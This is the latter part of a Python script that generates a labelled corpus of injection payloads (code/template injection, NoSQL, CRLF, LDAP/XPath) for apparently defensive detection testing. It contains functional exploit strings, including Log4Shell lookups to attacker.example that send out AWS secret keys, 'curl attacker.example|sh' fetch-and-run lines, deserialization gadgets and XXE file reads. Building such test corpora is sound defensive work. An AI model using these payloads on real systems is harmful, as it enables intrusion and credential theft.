    ("spel-type-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("spel-processbuilder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("ognl-struts-ctx", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-content-type", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Pwn','1')}"),
    ("mvel-runtime", "Runtime.getRuntime().exec(\"id\");"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-caption", "glass skin era ✨ ${jndi:ldap://203.0.113.15/x} #kbeauty"),
    ("log4shell-nested-lower", "${${lower:j}ndi:${lower:l}dap://attacker.example/p}"),
    ("log4shell-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}rmi://attacker.example/o}"),
    ("log4shell-dns-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-upper-bypass", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://attacker.example/z}"),
    ("log4shell-user-agent", "Mozilla/5.0 ${jndi:ldap://x.attacker.example/Basic/Command/id}"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-query-key", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution-lodash-path", "constructor.prototype.shell=/proc/self/exe"),
    ("csv-formula-cmd", "=cmd|' /C calc'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Batch details\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&C3)"),
    ("csv-formula-plus", "+cmd|'/c powershell iwr attacker.example/p'!A1"),
    ("csv-dde-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-importxml-sheets", "=IMPORTXML(CONCATENATE(\"https://attacker.example/?\",A1,B1),\"//a\")"),
    ("csv-formula-review", "-2+3+cmd|' /C notepad'!'A1'"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><review><text>&x;</text></review>"),
    ("xxe-oob-parameter", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % e SYSTEM \"http://attacker.example/e.dtd\"> %e;]><d/>"),
    ("xxe-ssrf-imds", "<!DOCTYPE p [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><product><name>&m;</name></product>"),
    ("xinclude-file", "<routine xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></routine>"),
    ("svg-xxe-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file:///proc/self/environ\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&s;</text></svg>"),
    ("yaml-python-object", "!!python/object/apply:os.system ['curl attacker.example|sh']"),
    ("yaml-python-subprocess", "routine: !!python/object/apply:subprocess.check_output [['id']]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("yaml-snakeyaml-jdbcrowset", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://attacker.example:1389/x\", autoCommit: true}"),
    ("pickle-b64-posix-system", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("jackson-default-typing-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/Exploit\", \"autoCommit\": true}]"),
    ("dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("dotnet-xaml-objectdataprovider", "<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" xmlns:s=\"clr-namespace:System;assembly=mscorlib\" xmlns:d=\"clr-namespace:System.Diagnostics;assembly=system\"><ObjectDataProvider x:Key=\"x\" ObjectType=\"{x:Type d:Process}\" MethodName=\"Start\"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c calc</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"),
    ("php-unserialize-object", "O:8:\"Shipment\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-unserialize-cart", "a:1:{i:0;O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"\u0000GuzzleHttp\\Psr7\\FnStream\u0000methods\";a:1:{s:5:\"close\";s:7:\"phpinfo\";}s:9:\"_fn_close\";s:7:\"phpinfo\";}}"),
    ("node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("python-eval-import", "__import__('os').system('id')"),
    ("js-eval-require", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("php-eval-system", "system('id');"),
    ("ruby-eval-backtick", "`curl http://attacker.example/r | sh`"),
]
CODE_PREFIX = ["Hi ", "GRWM 💋 ", "Batch 39A401 ", "Shade: ", "Dear "]
CODE_TAIL = [
    ("jinja2-os-popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
    ("spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("freemarker-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"whoami\")}"),
]

# ------------------------------------------------------------------ nosqli (25 literals)
NOSQLI = [
    ("plain-ne-operator", "{\"$ne\": null}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("login-password-ne", "{\"email\": \"admin@shop.example\", \"password\": {\"$ne\": \"x\"}}"),
    ("query-bracket-ne", "password[$ne]=1"),
    ("query-bracket-regex", "username[$regex]=^adm&password[$ne]="),
    ("regex-prefix-extract", "{\"$regex\": \"^a.*\"}"),
    ("regex-redos", "{\"$regex\": \"^(a+)+$\"}"),
    ("where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js-string-break", "'; return true; var x='"),
    ("where-this-password", "{\"$where\": \"this.password.match(/^a/)\"}"),
    ("in-operator", "{\"$in\": [\"admin\", \"root\", \"superuser\"]}"),
    ("nin-operator", "{\"role\": {\"$nin\": [\"customer\"]}}"),
    ("or-operator", "{\"$or\": [{\"shade\": \"220\"}, {\"isAdmin\": true}]}"),
    ("exists-operator", "{\"resetToken\": {\"$exists\": true}}"),
    ("expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("mapreduce-js", "{\"mapReduce\": \"orders\", \"map\": \"function(){emit(1,db.users.find().toArray())}\"}"),
    ("batch-lookup-gt", "{\"batch\": {\"$gt\": \"\"}, \"pao\": \"12M\"}"),
    ("review-filter-where", "{\"rating\": 5, \"$where\": \"function(){return db.getSiblingDB('admin')!=null}\"}"),
    ("search-json-regex", "{\"q\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("or-string-break", "' || '1'=='1"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("elastic-script", "{\"script\": {\"source\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}"),
    ("urlencoded-bracket-ne", "password%5B%24ne%5D=x"),
    ("redis-eval-injection", "x\r\nEVAL \"return redis.call('CONFIG','GET','*')\" 0\r\n"),
]
NOSQLI_PREFIX = ["password", "email", "shade", "batch_code", "reset_token"]
NOSQLI_TAIL = [
    ("bracket-ne", "[$ne]=x"),
    ("bracket-gt", "[$gt]="),
]

# ------------------------------------------------------------------ crlf (27 literals)
CRLF = [
    ("plain-header-injection", "x\r\nSet-Cookie: session=attacker"),
    ("plain-log-forge", "ok\nINFO 2024-05-01 12:00:00 user=admin action=login result=SUCCESS"),
    ("response-splitting", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-location", "/cart\r\nLocation: https://attacker.example/login"),
    ("urlencoded-set-cookie", "%0d%0aSet-Cookie:%20admin=1"),
    ("urlencoded-only-lf", "shade%0aX-Injected:%20yes"),
    ("double-urlencoded", "%250d%250aSet-Cookie:%2520sid=x"),
    ("unicode-crlf-utf8", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("percent-u-crlf", "%u000d%u000aX-Forwarded-Host: attacker.example"),
    ("json-unicode-crlf", "Rosewood\\u000d\\u000aX-Admin: true"),
    ("review-log-forge", "Love it!\n[2024-05-01T10:22:13Z] WARN payment-service refund approved order=48213 amount=999.00 by=support"),
    ("batch-log-forge-cr", "39A401\r[AUDIT] admin deleted user id=17"),
    ("support-log-forge-json", "wrong shade\n{\"level\":\"info\",\"msg\":\"role changed\",\"user\":\"mira\",\"role\":\"admin\"}"),
    ("caption-log-forge", "#grwm\n127.0.0.1 - - [01/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("mail-header-bcc", "Mira <mira@example.com>\r\nBcc: list@attacker.example"),
    ("mail-subject-cc", "Return request #48213\nCc: op@attacker.example\nX-Mailer: x"),
    ("mail-body-injection", "Hi\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/reset>Reset your password</a>"),
    ("mail-from-spoof", "ana@example.com\nFrom: support@shop.example\nReply-To: op@attacker.example"),
    ("mail-smtp-dot", "note\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nfree giveaway\r\n."),
    ("header-x-forwarded-for", "203.0.113.1\r\nX-Forwarded-For: 127.0.0.1"),
    ("cache-poison-host", "tracking\r\nHost: attacker.example"),
    ("csp-override", "x\r\nContent-Security-Policy: script-src *"),
    ("filename-content-disposition", "invoice.pdf\"\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    ("ansi-escape-log", "ok\u001b[2J\u001b[1;1HLogin OK for admin"),
    ("nel-lf-unicode", "glow\u0085Set-Cookie: x=1"),
    ("line-separator-unicode", "serum\u2028Set-Cookie: role=admin"),
    ("http-request-smuggle", "1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
]
CRLF_PREFIX = ["Shade 220", "Batch 2304B17", "order #48213"]
CRLF_TAIL = [
    ("set-cookie", "\r\nSet-Cookie: sid=attacker"),
    ("log-forge", "\n[INFO] admin login succeeded from 10.0.0.1"),
    ("bcc", "\r\nBcc: op@attacker.example"),
]

# ------------------------------------------------------------------ ldap-xpath (19 literals)
LDAPX = [
    ("ldap-wildcard-bind", "*"),
    ("ldap-or-true", "*)(uid=*))(|(uid=*"),
    ("ldap-admin-bypass", "admin)(&)"),
    ("ldap-password-bypass", "admin)(!(&(1=0"),
    ("ldap-attribute-probe", "*)(userPassword=a*"),
    ("ldap-objectclass", "x)(|(objectClass=*)"),
    ("ldap-null-terminate", "admin)%00"),
    ("ldap-hex-escape-star", "\\2a)(uid=\\2a"),
    ("ldap-group-escalation", "mira)(memberOf=cn=admins,ou=groups,dc=shop,dc=example"),
    ("ldap-staff-lookup", "Clémence*)(|(mail=*@shop.example)(telephoneNumber=*"),
    ("xpath-or-true", "' or '1'='1"),
    ("xpath-or-true-dq", "\" or \"\"=\""),
    ("xpath-count-users", "' or count(/users/user)>0 or 'a'='b"),
    ("xpath-substring-blind", "x' or substring(//user[1]/password,1,1)='a"),
    ("xpath-name-probe", "' or name(/*[1])='catalog' or '"),
    ("xpath-union-nodes", "')] | //user/* | //*[('"),
    ("xpath-string-length", "' and string-length(//user[position()=1]/password)>8 and '1'='1"),
    ("xpath-doc-file", "' or doc('file:///etc/passwd') or '"),
    ("xpath-shade-break", "220 Natural Beige'] | //customer/creditcard | //shade['"),
]
LDAPX_PREFIX = ["Mira", "admin"]
LDAPX_TAIL = [
    ("ldap-or-true", ")(|(uid=*"),
]

CATEGORIES = [
    # name, literals, prefixes, tail payloads, templated count
    ("sqli", SQLI, SQLI_PREFIX, SQLI_TAIL, 8),
    ("xss", XSS, XSS_PREFIX, XSS_TAIL, 8),
    ("cmdi", CMDI, CMDI_PREFIX, CMDI_TAIL, 7),
    ("traversal", TRAV, TRAV_PREFIX, TRAV_TAIL, 5),
    ("ssrf", SSRF, SSRF_PREFIX, SSRF_TAIL, 5),
    ("code", CODE, CODE_PREFIX, CODE_TAIL, 8),
    ("nosqli", NOSQLI, NOSQLI_PREFIX, NOSQLI_TAIL, 2),
    ("crlf", CRLF, CRLF_PREFIX, CRLF_TAIL, 3),
    ("ldap-xpath", LDAPX, LDAPX_PREFIX, LDAPX_TAIL, 1),
]


def templated(rng, cat, prefixes, tails):
    """Join one hand-written prefix to one hand-written payload; optionally URL-encode
    the whole value once (class gets a +urlencode suffix)."""
    cls, payload = rng.choice(tails)
    pre = rng.choice(prefixes)
    value = pre + payload
    cls = "tmpl-prefixed-" + cls
    # Encoding is meaningful for values that travel in URLs; never for SSRF (would break the URL).
    if cat not in ("ssrf", "nosqli") and rng.random() < 0.3:
        value = urllib.parse.quote(value, safe="")
        cls += "+urlencode"
    return cls, value


def build():
    rng = random.Random(SEED)
    rows = []
    n = 0
    seen = set()
    for cat, lits, prefixes, tails, k in CATEGORIES:
        items = []
        for cls, v in lits:
            assert v not in seen, (cat, v)
            seen.add(v)
            items.append((cls, v))
        made = 0
        tries = 0
        while made < k:
            tries += 1
            assert tries < 5000, cat
            cls, v = templated(rng, cat, prefixes, tails)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
            made += 1
        for cls, v in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    return rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "attacks.jsonl")
    rows = build()
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), out))


if __name__ == "__main__":
    main()
